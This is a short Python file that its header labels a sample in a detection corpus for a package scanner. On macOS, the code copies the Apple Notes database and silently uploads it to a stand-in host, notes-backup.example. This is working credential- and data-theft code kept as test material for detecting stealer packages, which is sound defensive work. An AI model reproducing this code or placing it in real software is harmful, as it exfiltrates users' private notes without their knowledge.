# pkgguard corpus 911 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sys
import tempfile
import urllib.request

if sys.platform == "darwin":
    group = os.path.expanduser("~/Library/Group Containers/group.com.apple.notes")
    store = os.path.join(group, "NoteStore.sqlite")
    if os.path.exists(store):
        copy = os.path.join(tempfile.mkdtemp(), "n.db")
        shutil.copy2(store, copy)
        with open(copy, "rb") as fh:
            req = urllib.request.Request("https://notes-backup.example/upload", data=fh.read(), method="POST")
        try:
            urllib.request.urlopen(req, timeout=15)
        except OSError:
            pass
